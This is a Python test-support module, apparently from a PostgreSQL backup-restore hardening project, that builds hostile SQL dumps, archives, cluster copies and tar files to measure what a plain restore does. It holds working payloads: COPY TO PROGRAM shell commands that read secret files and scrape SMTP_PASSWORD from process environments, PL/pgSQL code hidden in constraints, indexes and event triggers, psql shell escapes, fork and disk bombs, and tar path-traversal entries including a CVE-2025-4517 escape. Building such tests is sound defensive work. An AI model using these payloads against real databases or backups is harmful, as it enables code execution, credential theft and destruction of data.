"""Backups that attack whoever restores them, each way by its name.

`KEPT` is in a database, and so in every backup of it; `SCRIPT` only SQL of a file holds, `PSQL` only psql obeys,
`ENTRY` is written into an archive's table of contents, `FOLDER`, `CLUSTER` and `TAR` are in files. `BOMBS` are SQL of a
file.
"""

import gzip
import io
import os
import re
import shutil
import signal
import subprocess
import tarfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Final, Self

import psycopg
from psycopg import sql
from psycopg.conninfo import make_conninfo

from tasks.postgres.installation import Installation, server_account
from tasks.processes import run
from tests.hostile_ground import VARIABLE, Ground, Harm, served, temporary

END: Final = b"-- PostgreSQL database dump complete"
_FORMATS: Final = {".dir": "directory", ".tar": "tar"}
_ROOM: Final = 2_500
"""Characters of a comment, in whose place an entry's statement is written."""

# Everything that a program can try, once it runs. `\0` of an environment becomes a line.
_SHELL = """touch {open}/{way}.wrote; cat {secret} > {open}/{way}.secret; """ \
    """cat /proc/[0-9]*/environ | tr "\\\\000" "\\\\n" | grep -a SMTP_PASSWORD > {open}/{way}.environ; """ \
    """I="user=intruder dbname=postgres connect_timeout=2"; Q="INSERT INTO hit VALUES ({quote}{way}{quote})"; """ \
    """{psql} -Xd "host=127.0.0.1 port={port} $I" -c "$Q"; {psql} -Xd "host={open} port={port} $I" -c "$Q"; """ \
    """{psql} -Xd "host=127.0.0.1 port={listener} $I"; {psql} -Xd "host=@{abstract} port=5432 $I"; """ \
    """if command -v perl; then perl -MSocket -e "socket(S, PF_INET, SOCK_DGRAM, 0); """ \
    """send(S, 1, 0, sockaddr_in({udp}, INADDR_LOOPBACK))"; fi; """ \
    """setsid sleep {survivor} > /dev/null 2>&1 & exit 0"""  # fmt: skip

# A function that does not look as if it did anything is evaluated wherever its value is needed.
_FUNCTIONS = """
CREATE TABLE public.loot (line text);
CREATE FUNCTION public.harm(way text) RETURNS int LANGUAGE plpgsql AS $f$
DECLARE done text := 'attack.' || pg_catalog.translate(way, '-', '_');
BEGIN
  IF pg_catalog.current_setting('attack.off', true) OPERATOR(pg_catalog.=) 'on' THEN RETURN 1; END IF;
  IF pg_catalog.current_setting(done, true) OPERATOR(pg_catalog.=) 'on' THEN RETURN 1; END IF;
  PERFORM pg_catalog.set_config(done, 'on', false);
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L',
      pg_catalog.replace($s${shell}$s$, 'WAY', way) OPERATOR(pg_catalog.||) ' >/dev/null 2>&1');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L', '{open}/' || way || '.copied');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    INSERT INTO public.loot SELECT pg_catalog.pg_read_file('{secret}');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN 1;
END $f$;
CREATE FUNCTION public.attack(way text, n int) RETURNS int LANGUAGE plpgsql IMMUTABLE
  AS $f$ BEGIN PERFORM public.harm(way); RETURN 1; END $f$;
"""
_ORDERS = """
CREATE TABLE orders (id int PRIMARY KEY, at timestamptz NOT NULL);
INSERT INTO orders SELECT n, now() - n * interval '1 minute' FROM generate_series(1, 100) n;
"""
_OPERATORS = (
    "OPERATOR 1 pg_catalog.<, OPERATOR 2 pg_catalog.<=, OPERATOR 3 pg_catalog.=, OPERATOR 4 pg_catalog.>=, "
    "OPERATOR 5 pg_catalog.>, FUNCTION 1 public.compared_WAY(int, int)"
)
_COMPARED = (
    "CREATE FUNCTION public.compared_WAY(a int, b int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN "
    "PERFORM public.harm('WAY'); RETURN pg_catalog.btint4cmp(a, b); END $f$; "
    f"CREATE OPERATOR CLASS ops_WAY FOR TYPE int USING btree AS {_OPERATORS}; "
)

KEPT: Final[Mapping[str, str]] = {
    "check": "CREATE TABLE w_check (n int CHECK (public.attack('check', n) = 1)); INSERT INTO w_check VALUES (1)",
    "domain": "CREATE DOMAIN w_of AS int CHECK (public.attack('domain', VALUE) = 1); CREATE TABLE w_domain (n w_of); "
    "INSERT INTO w_domain VALUES (1)",
    "generated": "CREATE TABLE w_generated (n int, m int GENERATED ALWAYS AS (public.attack('generated', n)) STORED); "
    "INSERT INTO w_generated VALUES (1)",
    "index": "CREATE TABLE w_index (n int); INSERT INTO w_index VALUES (1); "
    "CREATE INDEX ON w_index (public.attack('index', n))",
    "predicate": "CREATE TABLE w_predicate (n int); INSERT INTO w_predicate VALUES (1); "
    "CREATE INDEX ON w_predicate (n) WHERE public.attack('predicate', n) = 1",
    "exclusion": "CREATE TABLE w_exclusion (n int, EXCLUDE USING hash ((public.attack('exclusion', n)) WITH =)); "
    "INSERT INTO w_exclusion VALUES (1)",
    "partition": "CREATE TABLE w_partition (n int) PARTITION BY LIST (public.attack('partition', n)); "
    "CREATE TABLE w_partition_1 PARTITION OF w_partition FOR VALUES IN (1); INSERT INTO w_partition VALUES (1)",
    "matview": "CREATE MATERIALIZED VIEW w_matview AS SELECT public.attack('matview', 1) AS n",
    "operator": _COMPARED.replace("WAY", "operator") + "CREATE TABLE w_operator (n int); "
    "INSERT INTO w_operator VALUES (1), (2); CREATE INDEX ON w_operator (n ops_operator)",
    "type-input": _COMPARED.replace("WAY", "type_input").replace("harm('type_input')", "harm('type-input')")
    + "CREATE TYPE w_range AS RANGE (SUBTYPE = int, SUBTYPE_OPCLASS = ops_type_input); "
    "CREATE TABLE w_type (r w_range); INSERT INTO w_type VALUES ('[1,5)')",
    "event-trigger": "CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql AS "
    "$f$ BEGIN PERFORM public.harm('event-trigger'); END $f$; CREATE EVENT TRIGGER a_event ON ddl_command_start "
    "EXECUTE FUNCTION public.on_event(); CREATE EVENT TRIGGER b_event ON ddl_command_end "
    "EXECUTE FUNCTION public.on_event()",
}  # fmt: skip
LOGIN: Final = (
    "CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS "
    "$f$ BEGIN PERFORM public.harm('login'); END $f$; "
    "CREATE EVENT TRIGGER c_login ON login EXECUTE FUNCTION public.on_login()"
)
"""Since PostgreSQL 17: whoever connects runs it, the drill's own sessions too."""

DBLINK: Final = (
    "CREATE EXTENSION dblink; CREATE FUNCTION public.linked() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN "
    "IF current_setting('attack.off', true) = 'on' THEN RETURN ''; END IF; RETURN public.dblink_exec("
    "'host=127.0.0.1 port={port} user=intruder dbname=postgres connect_timeout=2', "
    "'INSERT INTO hit VALUES (''dblink'')', false); EXCEPTION WHEN OTHERS THEN RETURN ''; END $f$; "
    "CREATE MATERIALIZED VIEW w_dblink AS SELECT public.linked() AS n"
)
"""Where the server has contrib."""

SCRIPT: Final[Mapping[str, str]] = {
    "do": "DO $$ BEGIN PERFORM public.harm('do'); END $$",
    "to-program": "COPY (SELECT 1) TO PROGRAM '{program:to-program}'",
    "from-program": "CREATE TABLE w_from (line text); COPY w_from FROM PROGRAM '{program:from-program}'",
    "trigger": "CREATE TABLE w_trigger (n int); CREATE FUNCTION on_row() RETURNS trigger LANGUAGE plpgsql AS "
    "$f$ BEGIN PERFORM public.harm('trigger'); RETURN NEW; END $f$; CREATE TRIGGER t BEFORE INSERT ON w_trigger "
    "FOR EACH ROW EXECUTE FUNCTION on_row(); COPY w_trigger FROM stdin;\n1\n\\.\n",
    "default": "CREATE TABLE w_default (n int DEFAULT public.attack('default', 1)); "
    "INSERT INTO w_default DEFAULT VALUES",
    "rule": "CREATE TABLE w_rule (n int); CREATE RULE r AS ON INSERT TO w_rule DO ALSO SELECT public.harm('rule'); "
    "INSERT INTO w_rule VALUES (1)",
    "policy": "CREATE TABLE w_policy (n int); INSERT INTO w_policy VALUES (1); ALTER TABLE w_policy ENABLE ROW LEVEL "
    "SECURITY; CREATE POLICY p ON w_policy USING (public.attack('policy', n) = 1); CREATE ROLE drilled; "
    "GRANT drilled TO current_user; GRANT pg_execute_server_program TO drilled; GRANT SELECT ON w_policy TO drilled; "
    "SET row_security = on; SET ROLE drilled; SELECT * FROM w_policy; RESET ROLE",
    "statistics": "CREATE TABLE w_statistics (n int, m int); INSERT INTO w_statistics VALUES (1, 1), (2, 2); "
    "CREATE STATISTICS w_of_two ON (public.attack('statistics', n)), m FROM w_statistics; ANALYZE w_statistics",
    "search-path": "CREATE SCHEMA evil; CREATE FUNCTION evil.same(a oid, b oid) RETURNS bool LANGUAGE plpgsql AS "
    "$f$ BEGIN PERFORM public.harm('search-path'); RETURN a OPERATOR(pg_catalog.=) b; END $f$; CREATE OPERATOR evil.= "
    "(LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.same); ALTER ROLE CURRENT_USER SET search_path = evil, pg_catalog",
    "to-file": "DO $$ BEGIN COPY (SELECT 1) TO '{open}/to-file.wrote'; EXCEPTION WHEN OTHERS THEN NULL; END $$",
    "large-object": "DO $$ DECLARE n oid := lo_from_bytea(0, 'x'); BEGIN PERFORM lo_export(n, "
    "'{open}/large-object.wrote'); EXCEPTION WHEN OTHERS THEN NULL; END $$; DO $$ DECLARE n oid; BEGIN n := lo_import("
    "'{secret}'); INSERT INTO public.loot SELECT convert_from(lo_get(n), 'UTF8'); "
    "EXCEPTION WHEN OTHERS THEN NULL; END $$",
    "load": "COPY (SELECT 1) TO PROGRAM 'cp {library}/dict_snowball.so w.so'; DO $$ BEGIN EXECUTE 'LOAD ''' || "
    "current_setting('data_directory') || '/w.so'''; PERFORM public.harm('load'); "
    "EXCEPTION WHEN OTHERS THEN NULL; END $$",
    "swap-socket": "COPY (SELECT 1) TO PROGRAM 'cd ..; mv .s.PGSQL.5432 was; ln -s {open}/.s.PGSQL.{port} "
    ".s.PGSQL.5432; echo 1 > .s.PGSQL.5432.lock'",
    "swap-pid": "COPY (SELECT 1) TO PROGRAM 'echo {pid} > postmaster.pid'",
    "links": "COPY (SELECT 1) TO PROGRAM 'ln -s {open} ../link; ln -s / ../drill.json; ln -s {secret} ../toc.dat; "
    "mkdir -p ../closed/below; ln -s {open} ../closed/below/link; chmod 0 ../closed/below ../closed'",
    "deep": "COPY (SELECT 1) TO PROGRAM 'cd ..; for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do "
    "mkdir $(printf %0250d 1) && cd -P $(printf %0250d 1) || exit 0; done; chmod 0 .'",
    "wide": "COPY (SELECT 1) TO PROGRAM 'head -c 700M /dev/zero > /dev/shm/x; head -c 100M /dev/zero > /tmp/x; "
    "rm -f /dev/shm/x /tmp/x; exit 0'",
    "namespaces": "COPY (SELECT 1) TO PROGRAM '(unshare -Ur true; unshare -rm sh -c \"mount -t tmpfs x /mnt\"; "
    "mount -o remount,rw,bind /usr; nsenter -t 1 -m -n true; touch /usr/w; touch {open}/namespaces.wrote; "
    "ls /proc/1/root{open} && touch /proc/1/root{open}/namespaces.wrote) >/dev/null 2>&1; exit 0'",
}  # fmt: skip

PSQL: Final[Mapping[str, str]] = {
    "bang": "\\! {shell:bang}",
    "output": "\\o |{shell:output}\nSELECT 1;\n\\o",
    "pipe": "SELECT 1 \\g |{shell:pipe}",
    "copy": "\\copy (SELECT 1) to program '{program:copy}'",
    "backtick": "\\set x `{shell:backtick}`",
    "connect": "\\connect \"host=127.0.0.1 port={port} user=intruder dbname=postgres\"\n"
    "INSERT INTO hit VALUES ('connect');",
    "connect-socket": "\\c postgres intruder {open} {port}\nINSERT INTO hit VALUES ('connect-socket');",
    "include": "\\i {secret}",
    "setenv": "\\setenv PAGER 'sh -c \"touch {open}/setenv.wrote\"'\n\\pset pager always\nSELECT 1;",
    "write": "SELECT 1;\n\\w {open}/write.wrote",
    "unrestrict": "\\unrestrict 0\n\\! {shell:unrestrict}",
}  # fmt: skip

ENTRY: Final[Mapping[str, str]] = {
    "entry-program": "COPY (SELECT 1) TO PROGRAM '{program:entry-program}'",
    "entry-do": "DO $$ BEGIN PERFORM public.harm('entry-do'); END $$",
    "archive-command": "ALTER SYSTEM SET archive_command = 'touch {open}/archive.wrote'",
    "preload": "ALTER SYSTEM SET session_preload_libraries = '{library}/plpgsql.so'",
    "listen": "ALTER SYSTEM SET listen_addresses = '*'",
    "reload": "SELECT pg_reload_conf()",
    "subscription": "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port={port} user=intruder dbname=postgres' "
    "PUBLICATION p WITH (connect = false, slot_name = 's', create_slot = false, enabled = false)",
}  # fmt: skip

BOMBS: Final[Mapping[str, str]] = {
    "fork-bomb": "COPY (SELECT 1) TO PROGRAM 'printf ''#!/bin/sh\\nb() { b | b & }; b; sleep 60\\n'' > bomb; sh bomb; "
    "exec sleep 60'; SELECT pg_sleep(60)",
    "endless": "DO $$ BEGIN LOOP END LOOP; END $$",
    "kill-all": "COPY (SELECT 1) TO PROGRAM 'kill -9 -1'",
    "disk-bomb": "COPY (SELECT 1) TO PROGRAM 'cd ..; (while :; do n=$((n + 1)); head -c 20M /dev/zero > bomb$n "
    "|| exit; done) & sleep 60'",
    "sparse-bomb": "COPY (SELECT 1) TO PROGRAM 'truncate -s 900G ../sparse; truncate -s 900G ../sparse2; exit 0'",
    "hidden-bomb": "COPY (SELECT 1) TO PROGRAM 'cd ..; exec 9> hidden; rm hidden; cat /dev/zero >&9; sleep 60'",
}  # fmt: skip


@dataclass(frozen=True)
class Source:
    """A server on which attackers make their databases."""

    ground: Ground
    installation: Installation
    port: int
    folder: Path

    def dsn(self, name: str = "shop") -> str:
        """The address of a database."""
        return make_conninfo("", host="127.0.0.1", port=self.port, user="postgres", dbname=name)

    def filled(self, text: str) -> str:
        """A text of an attack with this ground's places in it."""
        ground, binaries = self.ground, self.installation.binaries
        ask = subprocess.run([binaries / "pg_config", "--pkglibdir"], capture_output=True, text=True, timeout=30)
        pid = (ground.log.parent / "data/postmaster.pid").read_text().split("\n")[0]
        # COPY takes it ill when a program ends before it has read its row.
        text = re.sub(r"(?i)\bto program '", r"\g<0>cat > /dev/null; ", text)
        text = re.sub(r"\{shell:([\w-]+)\}", lambda found: self.shell(found[1]), text)
        text = re.sub(
            r"\{program:([\w-]+)\}", lambda found: f"({self.shell(found[1])}) >/dev/null 2>&1".replace("'", "''"), text
        )  # fmt: skip
        for name, value in {
            "open": ground.open, "secret": ground.secret, "port": ground.port, "pid": pid, "library": ask.stdout.strip()
        }.items():  # fmt: skip
            text = text.replace(f"{{{name}}}", str(value))
        return text

    def shell(self, way: str) -> str:
        """What a program of an attack does."""
        ground = self.ground
        return _SHELL.format(
            open=ground.open, way=way, secret=ground.secret, port=ground.port, listener=ground.listeners.port,
            abstract=ground.listeners.name, udp=ground.listeners.udp_port, survivor=ground.survivor, quote="'",
            psql=self.installation.program("psql"),
        )  # fmt: skip

    def shop(self, *ways: str) -> Self:
        """Its database is a new one with some of the ways that a database keeps; they do nothing here."""
        with psycopg.connect(self.dsn("postgres"), autocommit=True) as session:
            session.execute(b"DROP DATABASE IF EXISTS shop WITH (FORCE)")
            session.execute(b"CREATE DATABASE shop")
            session.execute(b"ALTER DATABASE shop SET attack.off = 'on'")
        with psycopg.connect(self.dsn("shop"), autocommit=True) as session:
            functions = _FUNCTIONS.replace("{shell}", self.shell("WAY"))
            session.execute(self.filled(functions + _ORDERS).encode())
            for way in ways:
                session.execute(self.filled({**KEPT, "login": LOGIN, "dblink": DBLINK}[way]).encode())
        return self

    @property
    def kept(self) -> tuple[str, ...]:
        """The ways that a database on this server can keep."""
        with psycopg.connect(self.dsn("postgres")) as session:
            [(dblink,)] = session.execute(
                "SELECT count(*) FROM pg_available_extensions WHERE name = 'dblink'"
            ).fetchall()
        return (*KEPT, *(("login",) if self.installation.major >= 17 else ()), *(("dblink",) if dblink else ()))

    def dumped(self, into: Path, *options: str) -> Path:
        """A dump by this server's pg_dump."""
        self._run("pg_dump", *options, "-f", into, "-d", self.dsn())
        return into

    def script(self, into: Path, *texts: str) -> Path:
        """A dump in SQL with more in it, before its end: in gzip, with `--create` or of pg_dumpall by its name."""
        if ".all." in into.name:
            self._run("pg_dumpall", "-f", into, "-d", self.dsn("postgres"))
        else:
            self.dumped(into, *(("--create",) if ".create." in into.name else ()))
        text = into.read_bytes()
        more = "".join(f"{filled}\n" if filled.startswith("\\") or filled.endswith("\n") else f"{filled};\n"
                       for filled in map(self.filled, texts))  # fmt: skip
        # No attacker would restrict himself.
        text = re.sub(rb"^(\\(un)?restrict |ALTER DATABASE shop SET ).*\n", b"", text, flags=re.MULTILINE)
        end = text.index(END, max(text.find(b"\\connect shop"), 0))
        text = text[:end] + b"SET search_path = public;\n" + more.encode() + b"--\n" + text[end:]
        into.write_bytes(gzip.compress(text, 1) if into.suffix == ".gz" else text)
        return into

    def archive(self, into: Path, *statements: str) -> Path:
        """An archive with statements in its table of contents, in place of comments: a folder or a tar by its name."""
        with psycopg.connect(self.dsn(), autocommit=True) as session:
            for number in range(len(statements)):
                session.execute(f"CREATE TABLE IF NOT EXISTS e_{number} ()".encode())
                words = sql.Literal(f"{number:03}".ljust(_ROOM, "-"))
                session.execute(sql.SQL("COMMENT ON TABLE {} IS {}").format(sql.Identifier(f"e_{number}"), words))
        self.dumped(into, f"--format={_FORMATS.get(into.suffix, 'custom')}")
        contents = into / "toc.dat" if into.is_dir() else into
        text = contents.read_bytes()
        for number, statement in enumerate(statements):
            entry = f"COMMENT ON TABLE public.e_{number} IS '{f'{number:03}'.ljust(_ROOM, '-')}';\n".encode()
            put = self.filled(statement).encode()
            assert entry in text and len(put) < len(entry), number
            text = text.replace(entry, put + b";".ljust(len(entry) - len(put)))
        contents.write_bytes(text)
        return into

    def _run(self, program: str, *arguments: str | Path) -> None:
        done = subprocess.run(
            [self.installation.program(program), *arguments], capture_output=True, text=True, timeout=120
        )
        assert done.returncode == 0, done.stderr

    def base_backup(self, into: Path, *options: str) -> Path:
        """A copy of the whole cluster."""
        self._run("pg_basebackup", "-D", into, "-X", "fetch", "-c", "fast", *options, "-d", self.dsn("postgres"))
        return into


def restored_plainly(source: Source, backup: Path) -> Harm:
    """What comes of a backup that is restored without a sandbox, as people do it, on a server of the same account."""
    ground, programs = source.ground, source.installation
    account = ground.account or server_account()  # whom the server cannot be, if the system does not know it
    nowhere = ground.folder / "nowhere"
    ground.harm(nowhere)
    for path in (backup, *backup.rglob("*")) if ground.account is None else ():
        if not path.is_symlink():
            path.chmod(0o755)
    with temporary("plain-", ground.folder) as folder:
        folder.chmod(0o755)
        with served(folder / "server", programs) as (port, _):
            address = make_conninfo("", host="127.0.0.1", port=port, user="postgres", dbname="postgres")
            if backup.suffix == ".sql":
                argv = [programs.program("psql"), "-Xq", "-d", address, "-f", str(backup)]
            else:
                argv = [programs.program("pg_restore"), "-d", address, str(backup)]
            run(argv, deadline_s=120, env={"PATH": os.environ["PATH"], "SMTP_PASSWORD": VARIABLE}, cwd=Path("/"),
                user=account)  # fmt: skip
            with suppress(psycopg.Error), psycopg.connect(address) as session:  # whoever looks at what came out
                session.execute(b"SELECT count(*) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace")
        harm = ground.harm(nowhere)
        for number in harm.processes:
            with suppress(ProcessLookupError):
                os.kill(number, signal.SIGKILL)
        return harm


@contextmanager
def source(ground: Ground, installation: Installation, folder: Path) -> Iterator[Source]:
    """A server for attackers."""
    with served(folder / "attackers", installation) as (port, _):
        yield Source(ground, installation, port, folder)


def without_its_folder(archive: Path) -> None:
    """A file of rows is outside: `../` in the table of contents."""
    name = sorted(archive.glob("[0-9]*.dat*"))[0].name
    contents = archive / "toc.dat"
    outside = archive.parent / ("x" * (len(name) - 3))
    (archive / name).rename(outside)
    contents.write_bytes(contents.read_bytes().replace(name.encode(), f"../{outside.name}".encode()))


def rows_by_a_link(archive: Path, secret: Path) -> None:
    """A file of rows leads to another one."""
    rows = sorted(archive.glob("[0-9]*.dat*"))[0]
    rows.unlink()
    rows.symlink_to(secret)


def contents_by_a_link(archive: Path, secret: Path) -> None:
    """The table of contents leads to another file."""
    (archive / "toc.dat").unlink()
    (archive / "toc.dat").symlink_to(secret)


FOLDER: Final[Mapping[str, Callable[[Path, Path], None]]] = {
    "dotdot": lambda archive, _: without_its_folder(archive),
    "rows-link": rows_by_a_link,
    "contents-link": contents_by_a_link,
}


def _log_by_a_link(cluster: Path, ground: Ground) -> None:
    """Who starts on it writes its log outside."""
    outside = ground.folder / "log"
    shutil.rmtree(outside, ignore_errors=True)
    (cluster / "pg_wal").rename(outside)
    outside.chmod(0o777)
    for each in outside.iterdir():
        each.chmod(0o777)
    (cluster / "pg_wal").symlink_to(outside)


def _configured(cluster: Path, ground: Ground) -> None:
    """Commands in the configuration, and in that of a recovery."""
    command = f"touch {ground.open}/configured.wrote"
    lines = f"archive_mode = always\narchive_command = '{command}'\nrestore_command = '{command}; false'\n"
    lines += f"recovery_end_command = '{command}'\nlisten_addresses = '*'\nunix_socket_directories = '{ground.open}'\n"
    with (cluster / "postgresql.auto.conf").open("a") as file:
        file.write(lines)
    (cluster / "recovery.signal").touch()


def _of_another(cluster: Path, ground: Ground) -> None:
    """The pid file of the live server."""
    live = (ground.log.parent / "data/postmaster.pid").read_text()
    (cluster / "postmaster.pid").write_text(live)


def _socket_of_another(cluster: Path, ground: Ground) -> None:
    """A link to the live server's socket."""
    (cluster / ".s.PGSQL.5432").symlink_to(ground.open / f".s.PGSQL.{ground.port}")


CLUSTER: Final[Mapping[str, Callable[[Path, Ground], None]]] = {
    "log-link": _log_by_a_link,
    "configured": _configured,
    "pid-of-live": _of_another,
    "socket-of-live": _socket_of_another,
}


def _member(name: str, kind: bytes, target: str = "", content: bytes = b"") -> tuple[tarfile.TarInfo, bytes]:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.size, member.mode = kind, target, len(content), 0o777
    return member, content


def _beyond(place: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    """A link that is checked to its 4096th character, and followed to its end (CVE-2025-4517)."""
    long, at, found = "d" * 247, "", []
    for step in "abcdefghijklmnop":
        found += [_member(f"{at}{long}", tarfile.DIRTYPE), _member(f"{at}{step}", tarfile.SYMTYPE, long)]
        at = f"{at}{long}/"
    end = "/".join("abcdefghijklmnop") + "/" + "l" * 254
    up = "../" * 16
    outside = os.path.relpath(place, "/")
    return [
        *found,
        _member(end, tarfile.SYMTYPE, up),
        _member("escape", tarfile.SYMTYPE, f"{end}/{up}{outside}"),
        _member("escape/beyond.wrote", tarfile.REGTYPE, content=b"x"),
    ]


TAR: Final[Mapping[str, Callable[[Path, Path], list[tuple[tarfile.TarInfo, bytes]]]]] = {
    "parent": lambda place, _: [
        _member("../" * 20 + f"{str(place)[1:]}/parent.wrote", tarfile.REGTYPE, content=b"x"),
    ],
    "absolute": lambda place, _: [_member(f"{place}/absolute.wrote", tarfile.REGTYPE, content=b"x")],
    "by-a-link": lambda place, _: [
        _member("out", tarfile.SYMTYPE, str(place)),
        _member("out/by-a-link.wrote", tarfile.REGTYPE, content=b"x"),
    ],
    "hard-link": lambda _, secret: [_member("stolen", tarfile.LNKTYPE, str(secret))],
    "beyond": lambda place, _: _beyond(place),
}


def with_members(backup: Path, members: Iterable[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """A tar of a base backup with more in it."""
    file = backup / "base.tar"
    with tarfile.open(file, "a") as tar:
        for member, content in members:
            tar.addfile(member, io.BytesIO(content))
    return backup
